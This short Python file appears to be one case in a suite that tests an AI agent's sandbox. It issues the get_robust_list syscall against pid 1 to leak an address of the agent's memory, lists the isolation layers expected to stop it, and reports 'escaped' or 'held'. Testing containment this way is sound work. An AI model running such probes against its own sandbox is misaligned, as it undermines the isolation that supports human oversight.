# title: an address of the agent's memory by get_robust_list
# wall: uid capabilities not_dumpable seccomp_arguments landlock
# gvisor: seccomp_arguments
# source: get_robust_list(2): guarded by the right to trace alone
import ctypes
from attack import call, escaped, held

head, size = ctypes.c_void_p(), ctypes.c_size_t()
result = call(274, 1, (ctypes.c_char * 8).from_buffer(head), (ctypes.c_char * 8).from_buffer(size))
if result == 0:
    escaped("pid 1: %s" % head.value)
held("errno %d" % -result)
